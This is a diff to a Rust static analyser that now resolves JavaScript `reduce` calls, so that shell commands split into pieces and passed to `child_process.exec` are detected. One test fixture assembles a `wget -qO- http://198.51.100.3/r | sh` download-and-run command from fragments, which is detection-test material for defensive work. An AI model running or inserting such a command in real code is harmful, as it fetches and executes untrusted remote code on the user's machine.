@@ -4,6 +4,9 @@
 //! repeated key) is known where it is used. Only a callback whose parameters are plain names and whose
 //! body is one expression (or `{ return <expression>; }`) is followed; the array is bounded by
 //! `MAX_LIST_ITEMS` and every evaluation takes a step of the segment's budget.
+//!
+//! `array.reduce((acc, c) => acc + c, '')` folds the same way: a command kept as pieces and joined by a
+//! reducer is known where it is used.
 
 use super::values::Value;
 use super::Walker;
@@ -22,19 +25,7 @@ impl<'t> Walker<'t, '_> {
             return None;
         }
         let names = self.callback_parameters(callback)?;
-        let body = callback.field_child("body")?;
-        let expression = if body.kind() == "statement_block" {
-            let statements = named_children(body);
-            let [statement] = statements.as_slice() else {
-                return None;
-            };
-            if statement.kind() != "return_statement" {
-                return None;
-            }
-            statement.named_child(0)?
-        } else {
-            body
-        };
+        let expression = single_expression(callback.field_child("body")?)?;
         self.env.push();
         let mut out = Vec::with_capacity(items.len());
         for (index, item) in items.iter().enumerate() {
@@ -56,6 +47,41 @@ impl<'t> Walker<'t, '_> {
             .flatten()
     }
 
+    /// The folded value, when `callback` is a plain two-parameter reducer over the known `items` (from
+    /// `initial`, or from the first item as JavaScript does without one).
+    pub(super) fn reduce_items(
+        &mut self,
+        items: &[Value],
+        callback: Node<'t>,
+        initial: Option<Value>,
+        depth: usize,
+    ) -> Option<Value> {
+        if !matches!(callback.kind(), "arrow_function" | "function_expression") {
+            return None;
+        }
+        let names = self.callback_parameters(callback)?;
+        let [accumulator, item_name] = names.as_slice() else {
+            return None;
+        };
+        let expression = single_expression(callback.field_child("body")?)?;
+        let (mut folded, rest) = match initial {
+            Some(value) => (value, items),
+            None => (items.first()?.clone(), items.get(1..)?),
+        };
+        self.env.push();
+        for item in rest {
+            self.env.set(accumulator, Some(folded));
+            self.env.set(item_name, Some(item.clone()));
+            let Some(value) = self.eval(expression, depth + 1) else {
+                self.env.pop();
+                return None;
+            };
+            folded = value;
+        }
+        self.env.pop();
+        Some(folded)
+    }
+
     /// The names of a callback's first two parameters (`c => …`, `(c, i) => …`, `function (c) {…}`).
     fn callback_parameters(&self, callback: Node<'t>) -> Option<Vec<&'t str>> {
         if let Some(single) = callback.field_child("parameter") {
@@ -68,6 +94,20 @@ impl<'t> Walker<'t, '_> {
         }
         Some(list.into_iter().map(|p| self.src(p)).collect())
     }
+}
+
+/// A callback body's one expression: an arrow's expression, or `{ return <expression>; }`.
+fn single_expression(body: Node) -> Option<Node> {
+    if body.kind() != "statement_block" {
+        return Some(body);
+    }
+    let statements = named_children(body);
+    let [statement] = statements.as_slice() else {
+        return None;
+    };
+    (statement.kind() == "return_statement")
+        .then(|| statement.named_child(0))
+        .flatten()
 }
 
 fn named_children(node: Node) -> Vec<Node> {
@@ -97,11 +137,30 @@ mod tests {
     }
 
     #[test]
+    fn a_command_folded_from_pieces_by_a_reducer_is_known_at_the_call() {
+        let found = javascript(concat!(
+            "const cp = require('child_process');\n",
+            "const line = ['wget -q', 'O- http://', '198.51.100.3', '/r | sh'].reduce((a, b) => a + b, '');\n",
+            "const again = ['id', ' -u'].reduce(function (a, b) { return a + b; });\n",
+            "cp.exec(line);\n",
+            "cp.exec(again);\n",
+        ));
+        assert!(
+            found
+                .iter()
+                .any(|r| r.contains("\"wget -qO- http://198.51.100.3/r | sh\"")),
+            "{found:?}"
+        );
+        assert!(found.iter().any(|r| r.contains("\"id -u\"")), "{found:?}");
+    }
+
+    #[test]
     fn callbacks_with_patterns_statements_or_unknown_items_stay_unknown() {
         for text in [
             "const cp = require('child_process');\nconst s = [105, 100].map(({ c }) => String.fromCharCode(c)).join('');\ncp.exec(s);\n",
             "const cp = require('child_process');\nconst s = [105, 100].map((c) => { log(c); return String.fromCharCode(c); }).join('');\ncp.exec(s);\n",
             "const cp = require('child_process');\nconst s = load().map((c) => String.fromCharCode(c)).join('');\ncp.exec(s);\n",
+            "const cp = require('child_process');\nconst s = ['i', 'd'].reduce((a, b) => a + b + load(), '');\ncp.exec(s);\n",
         ] {
             let found = javascript(text);
             assert!(!found.iter().any(|r| r.contains("\"id\"")), "{text}: {found:?}");
